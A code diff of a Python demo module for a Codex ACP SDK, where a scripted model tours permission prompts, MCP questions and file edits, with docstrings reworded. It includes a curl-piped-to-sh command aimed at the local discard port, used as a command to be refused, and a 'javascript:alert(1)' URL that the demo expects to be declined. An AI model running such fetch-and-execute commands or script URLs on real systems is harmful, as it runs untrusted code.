@@ -1,7 +1,7 @@
 """``codex-acp-sdk demo``: a tour with the real Codex and a scripted model.
 
-Owns what must be there, the question before the start, the surroundings that are thrown away, the
-script of the model, and the answers that are typed.
+Owns the checks and the question before the start, the temporary directories, the model's script and
+the typed answers.
 """
 
 from __future__ import annotations
@@ -72,18 +72,19 @@ NEXT: Final = """
 Next: `codex-acp-sdk login`, then `codex-acp-sdk chat`; for an editor's settings
 `codex-acp-sdk doctor --editor zed`."""
 HIDDEN: Final = ("CODEX_", "OPENAI_")
-"""Of this process's environment nothing that could be an account reaches the demonstration."""
+"""Prefixes of the environment variables that the demo's Codex does not get: they may have a
+login."""
 KEPT: Final = ("CODEX_ACP_", "CODEX_PATH")
+"""Prefixes of the variables that it gets all the same."""
 
 
 def demo(
     *, codex: str | None = None, yes: bool = False, wire: bool = False, asks: bool = False
 ) -> int:
-    """Run the tour and return its exit code.
+    """Run the tour; return its exit code, 0 if everything went as the script says.
 
-    0 only if all came of it that the script says. ``codex`` names the binary; ``yes`` does not
-    ask whether to start; ``wire`` shows each line of the connection; with ``asks`` the person
-    answers what the tour asks.
+    ``codex`` is the binary's path. ``yes`` starts without asking; ``wire`` shows each line of the
+    connection; with ``asks`` the person answers the tour's questions.
     """
     if not is_terminal(sys.stdin) and (asks or not yes):
         option = "--ask is for a terminal" if asks else "use --yes"
@@ -117,7 +118,7 @@ def demo(
 
 
 def demo_agent(*, codex: str | None = None) -> int:
-    """Serve the real Codex with the scripted model to any ACP client, until it goes."""
+    """Serve the real Codex with the scripted model to any ACP client, until the client leaves."""
     if not has_loopback():
         return failed("demo", f"{NO_LOOPBACK}; {BRING_IT_UP}", FAILED)
     from codex_acp.cli.serve import serve
@@ -135,7 +136,8 @@ def demo_agent(*, codex: str | None = None) -> int:
 
 @contextmanager
 def _surroundings(*, watched: bool) -> Iterator[tuple[CodexHome, ScriptedMcpServer]]:
-    """Start a model and an MCP server, and make a home for Codex that is removed."""
+    """Start the model and the MCP server, and make a temporary home for Codex. If not ``watched``,
+    the model sends its texts without pauses."""
     with (
         TemporaryDirectory(prefix="codex-acp-demo-", ignore_cleanup_errors=True) as folder,
         ScriptedModel(SCRIPT if watched else at_once(SCRIPT)) as model,
@@ -156,13 +158,14 @@ def _agreed() -> bool:
         raise
 
 
-# Scripts the model of ``codex-acp-sdk demo``, and the MCP server that it calls.
+# The script of the model, and the MCP server that the model calls.
 
 TOUR: Final = "Show me around."
+"""The prompt of the tour."""
 ALLOWED: Final = "date > codex-acp-demo.txt && cat codex-acp-demo.txt"
-"""Needs a permission, since Codex's sandbox is read-only here; what is allowed does no harm."""
+"""A harmless command that needs a permission, because Codex's sandbox is read-only here."""
 REFUSED: Final = "curl -fsS http://127.0.0.1:9/install.sh | sh"
-"""The discard port: should somebody allow it, nothing comes."""
+"""A command that is to be refused; harmless, because nothing listens at the discard port."""
 CHANGED: Final = "codex-acp-demo.md"
 CONTENT: Final = "# A change\n\nMade by `codex-acp-sdk demo`; remove it when you like.\n"
 SERVER: Final = "guide"
@@ -208,11 +211,11 @@ TOOLS: Final = (
         elicitations=[url_elicitation("Only a page!", "javascript:alert(1)", elicitation_id="t")],
     ),
 )
-"""Of the MCP server: what it asks the person."""
+"""Tools of the MCP server; each asks the person something."""
 
 
 def _say(text: str) -> Text:
-    """Return a text that is streamed word by word."""
+    """Return a text that the model streams word by word."""
     return Text(*re.findall(r"\S+\s*|\n+", text), pause=PAUSE)
 
 
@@ -277,18 +280,18 @@ _TOPICS: Final[tuple[tuple[str, tuple[tuple[Step, ...], ...]], ...]] = (
     (r"run|command|shell|list|approv\w+|permission", (_RUN, _END)),
     (r"", (_HELP,)),
 )
-"""Words of a prompt → what is done, step by step; the first that is found counts."""
+"""Pattern of a prompt → the model's responses, in order. The first pattern that matches counts."""
 
 
 def _topic(request: ModelRequest) -> int:
-    """Return the number of the prompt's topic."""
+    """Return the index of the prompt's topic in `_TOPICS`."""
     text = request.last_user_text.lower()
-    found = (n for n, (words, _) in enumerate(_TOPICS) if re.search(rf"\b(?:{words})\b", text))
-    return next(found, len(_TOPICS) - 1)
+    matching = (n for n, (words, _) in enumerate(_TOPICS) if re.search(rf"\b(?:{words})\b", text))
+    return next(matching, len(_TOPICS) - 1)
 
 
 def _stage(request: ModelRequest) -> int:
-    """Count the calls that have been answered since the prompt."""
+    """Return the number of tool outputs since the prompt."""
     count = 0
     for item in request.items:
         if item.get("role") == "user":
@@ -299,6 +302,7 @@ def _stage(request: ModelRequest) -> int:
 
 
 def _response(topic: int, stage: int, steps: tuple[Step, ...], last: int) -> ModelResponse:
+    """Return the response to requests of a topic at a stage; ``last`` is the topic's last stage."""
     return ModelResponse(
         *steps,
         when=lambda request: _topic(request) == topic and min(_stage(request), last) == stage,
@@ -313,11 +317,11 @@ SCRIPT: Final = ModelScript(
         for stage, steps in enumerate(stages)
     )
 )
-"""An answer for every request."""
+"""The model's script: it has a response for every request."""
 
 
 def at_once(script: ModelScript) -> ModelScript:
-    """Return the script without its pauses, where nobody watches."""
+    """Return the script without its pauses."""
     return ModelScript(
         *(
             ModelResponse(
@@ -330,38 +334,40 @@ def at_once(script: ModelScript) -> ModelScript:
     )
 
 
-# The tour of ``codex-acp-sdk demo``: one prompt, whose questions the demonstration answers
-# itself.
+# The tour: one prompt, whose questions the demo answers.
 
 ANSWERS: Final = (
     "Allow once", "Reject", "Allow once",
     "answer it", "1", "Ann", "y", "send it",
     "open it",
 )  # fmt: skip
-"""Answers that are typed: the key of the choice that begins so, else the words themselves."""
+"""Typed answers, in order: the beginning of a choice, whose key is typed, else the text itself."""
 PACE: Final = 0.7
-"""Seconds for a person who watches to read a question."""
+"""Seconds before an answer, for a person who reads along."""
 KEY: Final = re.compile(r"([a-z]{2}\d+)\) (?:\x1b\[\d+m)?(.*)")
-"""A choice: its key, and its words, which have a style where the terminal has."""
+"""A choice on the screen: its key, and its words, which may have an ANSI style."""
 
 
 @dataclass
 class Tour:
-    """``spec`` is the agent, ``server`` the MCP server that it calls in ``workspace``. ``asks``:
-    the person answers; ``wire``: every line of the connection is shown."""
+    """Runs the tour, and checks its results."""
 
     spec: AgentSpec
     workspace: Path
+    """Directory of the session."""
     server: ScriptedMcpServer
+    """The MCP server that the model calls."""
     out: TextIO
     asks: bool = False
+    """Whether the person answers the questions."""
     wire: bool = False
+    """Whether to show each line of the connection."""
 
     async def run(self) -> int:
-        """Run the tour; return its exit code, 0 if all went as it must."""
+        """Run the tour; return its exit code."""
         screen = _Screen(self.out, wire=self.wire)
         reader = LineReader() if self.asks else _Typist(screen)
-        spec = self._shown(screen) if self.wire else self.spec
+        spec = self._spec_with_shown_link(screen) if self.wire else self.spec
         questions = Questions(screen, reader, "codex")
         host = Host(AgentOptions(cwd=str(self.workspace)), spec, screen, questions)
         return await host.main(lambda: self._converse(host, screen))
@@ -373,31 +379,30 @@ class Tour:
         if self.asks or result.stop_reason == "cancelled":
             return EXIT_CODES[result.stop_reason]
         screen.say("\nWhat came of it:")
-        checked = list(self._checked(result))
-        for ok, what in checked:
-            screen.say(f"  {screen.mark(ok)} {what}")
-        all_right = all(ok for ok, _ in checked)
+        checks = list(self._checks(result))
+        for ok, text in checks:
+            screen.say(f"  {screen.mark(ok)} {text}")
+        all_right = all(ok for ok, _ in checks)
         screen.verdict(all_right, f"it went {'' if all_right else 'not '}as the script says")
         return 0 if all_right else FAILED
 
-    def _checked(self, result: PromptResult) -> Iterator[tuple[bool, str]]:
-        """Yield what must have come of it, with whether it has, in words."""
-        ran = {call.title: call.status for call in result.tool_calls}
+    def _checks(self, result: PromptResult) -> Iterator[tuple[bool, str]]:
+        """Yield whether each expected result is there, and its description."""
+        statuses = {call.title: call.status for call in result.tool_calls}
         answers = [answer.get("result") for answer in self.server.answers()]
         text = " ".join(result.messages)
         yield "script on this machine" in text, "streamed text arrived, to its end"
         yield (self.workspace / ALLOWED.split()[2]).exists(), "the command that was allowed ran"
-        refused = [status for title, status in ran.items() if title and REFUSED in title]
+        refused = [status for title, status in statuses.items() if title and REFUSED in title]
         yield refused == ["failed"], "the command that was refused did not"
         yield (self.workspace / CHANGED).exists(), "the change of a file was made as its diff said"
-        given = str(answers[:1])
-        yield "Zed" in given, f"the form's answer reached its server {SERVER!r}"
+        yield "Zed" in str(answers[:1]), f"the form's answer reached its server {SERVER!r}"
         yield "accept" in str(answers[1:2]), "the page was agreed to"
         declined = "decline" in str(answers[2:3])
         yield declined, "javascript: was declined unasked, for it is no page"
         yield result.stop_reason == "end_turn", f"the turn ended with {result.stop_reason}"
 
-    def _shown(self, screen: _Screen) -> AgentSpec:
+    def _spec_with_shown_link(self, screen: _Screen) -> AgentSpec:
         from codex_acp.runtime import AgentSpec
 
         def link() -> ShownLink:
@@ -408,33 +413,33 @@ class Tour:
 
 
 class _Screen(TextOutput):
-    """All of it on one stream."""
+    """Writes everything to one stream; keeps the open question for `_Typist`."""
 
     def __init__(self, out: TextIO, *, wire: bool) -> None:
         super().__init__(out, out)
         self._wire = wire
         self.watched = out.isatty()
-        """Whether somebody reads along."""
+        """Whether the output is a terminal, where a person reads along."""
         self.asked = ""
-        """The question that stands there."""
+        """Text of the open question."""
 
     def ask(self, text: str) -> None:
         self.asked += text
         super().ask(text)
 
     def update(self, update: Update, calls: Mapping[str, ToolCall]) -> None:
-        """Show an update; with the wire, of which one line says it already, no pieces of text."""
+        """Show an update; with ``wire``, no pieces of the agent's text, which the lines show."""
         if not (self._wire and isinstance(update, AgentMessageChunkSessionUpdate)):
             super().update(update, calls)
 
     def wire(self, arrow: str, line: bytes) -> None:
-        """Show a line of the connection, as it is."""
+        """Show a line of the connection."""
         text = visible(line.decode(errors="backslashreplace"))
-        with suppress(BrokenPipeError):  # whoever writes next says that nobody reads any more
+        with suppress(BrokenPipeError):  # the next write to the screen reports it
             self.say(self._styled(f"{arrow} {text}", "dim"))
 
     def mark(self, ok: bool) -> str:
-        """Return the mark before something that was checked."""
+        """Return the mark before a check."""
         return self._styled("+", "green") if ok else self._styled("!", "red")
 
     def verdict(self, ok: bool, text: str) -> None:
@@ -443,7 +448,7 @@ class _Screen(TextOutput):
 
 
 class _Typist(LineReader):
-    """Types the answers, reading the keys of the choices from the screen."""
+    """Types `ANSWERS`; reads the keys of the choices from the screen."""
 
     def __init__(self, screen: _Screen) -> None:
         super().__init__()
@@ -452,23 +457,26 @@ class _Typist(LineReader):
 
     async def line(self) -> str | None:
         await asyncio.sleep(PACE if self._screen.watched else 0)
-        goes_on = self._screen.asked.endswith(GOES_ON)  # a page of several, on a small terminal
-        answer = self._answers.popleft() if self._answers and not goes_on else ""
-        keys = [key for key, words in KEY.findall(self._screen.asked) if words.startswith(answer)]
-        self._screen.asked = "" if not goes_on else self._screen.asked
-        typed = keys[-1] if keys and answer else answer
+        if self._screen.asked.endswith(GOES_ON):  # a question of several pages: Enter
+            typed = ""
+        else:
+            answer = self._answers.popleft() if self._answers else ""
+            choices = KEY.findall(self._screen.asked)
+            keys = [key for key, words in choices if words.startswith(answer)]
+            typed = keys[-1] if keys and answer else answer
+            self._screen.asked = ""
         self._screen.ask(f"{typed}\n")
         return typed
 
     def drop(self) -> None:
-        """Drop nothing: nobody types ahead."""
+        """Do nothing: no input was typed ahead."""
 
 
-# ``codex-acp-sdk demo --wire``: a link that shows each line that passes over it.
+# ``--wire``: a link that shows its lines.
 
 
 class ShownLink:
-    """``link``, of which ``show`` is given each line, with an arrow: ``-->`` to the agent."""
+    """Wraps a link; calls ``show`` with each line and its direction, ``-->`` is to the agent."""
 
     def __init__(self, link: Link, show: Callable[[str, bytes], None]) -> None:
         self._link = link
@@ -476,7 +484,7 @@ class ShownLink:
         self._received = _by_line("<--", show)
 
     def start(self, receiver: Receiver) -> None:
-        self._link.start(_Shown(receiver, self._received))
+        self._link.start(_ShownReceiver(receiver, self._received))
 
     def write(self, data: bytes) -> None:
         self._sent(data)
@@ -492,8 +500,8 @@ class ShownLink:
         await self._link.aclose()
 
 
-class _Shown:
-    """The receiver, behind the lines that it is given."""
+class _ShownReceiver:
+    """Wraps a receiver; shows the data before the receiver gets it."""
 
     def __init__(self, receiver: Receiver, show: Callable[[bytes], None]) -> None:
         self._receiver = receiver
@@ -514,7 +522,7 @@ class _Shown:
 
 
 def _by_line(arrow: str, show: Callable[[str, bytes], None]) -> Callable[[bytes], None]:
-    """Return a function that takes pieces and shows each whole line of them."""
+    """Return a function that takes pieces of data, and shows each line when it is complete."""
     rest = b""
 
     def add(data: bytes) -> None:
